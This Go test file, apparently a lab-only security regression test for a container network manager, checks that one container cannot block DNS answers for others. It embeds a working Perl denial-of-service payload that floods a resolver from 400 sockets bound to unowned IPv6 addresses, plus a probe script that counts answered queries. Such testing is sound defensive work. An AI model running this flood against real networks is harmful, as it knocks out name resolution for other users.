// SPDX-License-Identifier: Apache-2.0

//go:build lab

package systemd

import (
	"strings"
	"testing"
)

// nobodies is a payload that asks for names under addresses of its network that nobody
// has, which needs no privilege (ipv6(7), IPV6_FREEBIND).
const nobodies = `use Socket qw(:all); $| = 1;
my ($own) = qx(ip -6 -o addr show dev eth0 scope global) =~ m{inet6 (\S+)/};
my $question = pack("nnnnnn", 7, 0x100, 1, 0, 0, 0) . "\4evil\0" . pack("nn", 1, 1);
my $to = pack_sockaddr_in6(53, inet_pton(AF_INET6, "fd75:6e69:7463::53"));
my @all;
for my $i (1 .. 400) {
	my $s;
	socket($s, AF_INET6, SOCK_DGRAM, 0) and setsockopt($s, 41, 78, 1) and
		bind($s, pack_sockaddr_in6(0, substr(inet_pton(AF_INET6, $own), 0, 8) . pack("nnnn", 0, 0, 0xdead, $i))) or die "$!";
	push @all, $s;
}
for my $round (1 .. 400) {
	send($_, $question, 0, $to) for @all;
	print "asked\n" if $round == 40;
	select undef, undef, undef, 0.05;
}
sleep 1000;
`

// asker tells how many of ten questions are answered within half a second each.
const asker = `use Socket qw(:all);
for my $name ("169.254.53.53", "fd75:6e69:7463::53") {
	my $family = $name =~ /:/ ? AF_INET6 : AF_INET;
	my $to = $family == AF_INET ? pack_sockaddr_in(53, inet_aton($name)) : pack_sockaddr_in6(53, inet_pton(AF_INET6, $name));
	my $answered = 0;
	for (1 .. 10) {
		socket(my $s, $family, SOCK_DGRAM, 0) or die "$!";
		send($s, pack("nnnnnn", 9, 0x100, 1, 0, 0, 0) . "\5asker\0" . pack("nn", 1, 1), 0, $to);
		my $r = ""; vec($r, fileno($s), 1) = 1;
		$answered++ if select($r, undef, undef, 0.5);
		select undef, undef, undef, 0.1;
	}
	print "$name: $answered\n";
}
`

// A container asks for names under addresses that nobody has: the kernel keeps answers
// to these while it looks for whose they are. Others are answered, on other networks and
// with IPv4 alone as well.
//
//lab:once
func TestAttackOnNamesOfOthers(t *testing.T) {
	sameNetworks(t, func() {
		t.Run("run", func(t *testing.T) {
			place(t, "/etc/unitc/nobodies.network.yaml", "enable_ipv6: true\n")
			place(t, "/etc/unitc/asking.network.yaml", "enable_ipv6: true\n")
			place(t, "/run/names-attack/nobodies", nobodies)
			place(t, "/run/names-attack/asker", asker)
			const volumes = "\nvolumes: [/run/names-attack:/attack:ro]\nstop_grace_period: 0s\n"
			good := scoped.define(t, "asks-names", endless+"\nnetworks: {asking: {aliases: [asker]}}"+volumes).start()
			ask := func(when string) {
				if got := inside(t, good.unit(), "perl", "/attack/asker"); strings.Count(got, ": 10") != 2 {
					t.Errorf("%s it is answered\n%s", when, got)
				}
			}
			ask("before")
			evil := scoped.define(t, "asks-as-nobody", "rootfs: host\ncommand: [perl, /attack/nobodies]\nnetworks: [nobodies]"+volumes).start()
			evil.awaitOutput("asked\n")
			ask("meanwhile")
		})
	})
}
